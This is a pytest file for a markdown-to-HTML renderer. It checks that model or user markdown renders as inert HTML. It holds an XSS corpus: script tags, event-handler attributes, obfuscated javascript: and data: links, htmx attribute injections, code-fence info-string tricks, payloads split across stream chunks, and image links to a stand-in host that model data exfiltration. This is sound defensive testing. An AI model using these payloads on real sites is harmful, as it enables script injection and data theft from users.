"""Markdown from a model or a person becomes HTML that can do nothing but show text.

The XSS corpus follows SECURITY.md: raw HTML, event handlers, dangerous link schemes (also
disguised), reference-style and autolinks, fence info strings, htmx attributes, remote images,
and a payload split across two streamed chunks.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from tanglebox.markdown_render import code_language, is_safe_link, render_markdown

ALLOWED_TAGS = {
    "p", "br", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr",
    "em", "strong", "s", "code", "pre", "a", "div", "span", "button", "table", "thead", "tbody",
    "tr", "th", "td",
}
ALLOWED_ATTRIBUTES = {"href", "rel", "target", "class", "type", "aria-label", "data-copy-code",
                      "start", "title", "tabindex", "role"}
# The only values those two take: a scroll box that the keyboard can reach (markdown_math).
FIXED_VALUES = {"tabindex": "0", "role": "group"}


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_inert(html: str) -> None:
    """Only our tags and attributes; links only to http(s)/mailto; never an htmx attribute."""
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, f"unexpected <{tag}> in {html!r}"
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRIBUTES, f"unexpected attribute {name} in {html!r}"
            assert not name.startswith(("on", "hx-", "data-hx", "style", "src"))
            assert value == FIXED_VALUES.get(name, value), f"{name}={value!r} in {html!r}"
        if tag == "a":
            assert re.match(r"^(https?|mailto):", attrs["href"] or "", re.IGNORECASE), html
            assert attrs.get("rel") == "noopener noreferrer"
        if "class" in attrs:
            assert re.fullmatch(r"[a-z0-9_+#. -]*", attrs["class"] or ""), html
    # htmx's makeFragment rewrites "<hx-…" tags before parsing: none may survive unescaped.
    assert "<hx-" not in html.lower()


XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#74;avascript:alert(1))",
    "[click](&#x6A;avascript&colon;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click][ref]\n\n[ref]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "```python\" onclick=\"alert(1)\nprint(1)\n```",
    "```x class=\"hx-get\"\nprint(1)\n```",
    "```<script>\nprint(1)\n```",
    '<div hx-get="/health" hx-trigger="load">x</div>',
    '<span hx-on:click="alert(1)">x</span>',
    '<hx-partial hx-target="body">x</hx-partial>',
    "<style>body{display:none}</style>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "*<b onmouseover=alert(1)>x</b>*",
]


@pytest.mark.parametrize("text", XSS_CORPUS)
def test_the_xss_corpus_renders_inert(text):
    assert_inert(render_markdown(text))


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"])
def test_raw_html_is_shown_as_text(text):
    html = render_markdown(text)
    assert "&lt;" in html and "<script" not in html and "<img" not in html


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "Javascript:alert(1)", "vbscript:x",
    "file:///etc/passwd", "data:text/html,x", "data:image/png;base64,AAAA", "/relative",
    "#fragment", "//evil.example/x", "ftp://example.com",
])
def test_only_http_https_and_mailto_links_are_links(url):
    assert not is_safe_link(url)
    assert "<a" not in render_markdown(f"[x]({url})")


@pytest.mark.parametrize("url", ["https://example.com/a?b=c", "http://example.com",
                                 "HTTPS://EXAMPLE.COM", "mailto:someone@example.com"])
def test_safe_links_open_in_a_new_tab_without_referrer_or_opener(url):
    [(tag, attrs)] = [e for e in elements(render_markdown(f"[x]({url})")) if e[0] == "a"]
    assert attrs["rel"] == "noopener noreferrer" and attrs["target"] == "_blank"


def test_autolinks_and_reference_links_follow_the_same_rule():
    html = render_markdown("<https://example.com> and [r][ok]\n\n[ok]: https://example.org")
    hrefs = [attrs["href"] for tag, attrs in elements(html) if tag == "a"]
    assert hrefs == ["https://example.com", "https://example.org"]


def test_a_remote_image_becomes_a_link_and_is_never_loaded():
    html = render_markdown("![the chart](https://evil.example/?q=secret)")
    assert "<img" not in html
    [(tag, attrs)] = elements(html)[1:]  # after the <p>
    assert tag == "a" and attrs["href"] == "https://evil.example/?q=secret"
    assert "Image: the chart" in html


def test_fenced_code_has_a_language_class_and_a_copy_button():
    html = render_markdown("```python\nprint('<b>')\n```")
    assert '<code class="language-python">' in html
    text = re.sub(r'</?span[^>]*>', "", html)  # the code's text, without Pygments' tokens
    assert "print(&#x27;&lt;b&gt;&#x27;)" in text or "print('&lt;b&gt;')" in text
    assert "data-copy-code" in html


@pytest.mark.parametrize("info, language", [
    ("python", "python"), ("Python title=x", "python"), ("c++", "c++"), ("c#", "c#"),
    ('python" onclick="x', ""), ("x class=hx-get", "x"), ("<script>", ""), ("", ""),
    ("a" * 40, ""), ("{.class}", ""),
])
def test_a_fence_info_string_cannot_inject_attributes_or_classes(info, language):
    assert code_language(info) == language
    html = render_markdown(f"```{info}\ncode\n```")
    assert_inert(html)
    classes = [attrs.get("class") for tag, attrs in elements(html) if tag == "code"]
    assert classes == ([f"language-{language}"] if language else [None])


def test_tables_render_with_alignment_as_classes_not_styles():
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert "<table>" in html and "style=" not in html
    assert '<th class="align-center">' in html and '<td class="align-right">' in html
    assert html.startswith('<div class="table-scroll">')


def test_headings_lists_inline_code_and_line_breaks():
    html = render_markdown("## Title\n\n- one\n- `two`\n\nline 1\nline 2")
    assert "<h2>Title</h2>" in html and "<li>one</li>" in html
    assert "<code>two</code>" in html and "line 1<br>" in html


@pytest.mark.parametrize("first, second", [
    ("<scr", "ipt>alert(1)</script>"),
    ("<img src=x on", "error=alert(1)>"),
    ("[click](java", "script:alert(1))"),
    ('<div hx-', 'get="/x" hx-trigger="load">'),
    ("```python\" on", "click=x\nprint(1)\n```"),
])
def test_a_payload_split_across_two_chunks_stays_inert(first, second):
    # The UI socket renders the whole message so far after every chunk, never a piece.
    assert_inert(render_markdown(first))
    assert_inert(render_markdown(first + second))


def test_the_result_is_markup_so_templates_never_need_the_safe_filter():
    assert isinstance(render_markdown("x"), Markup)
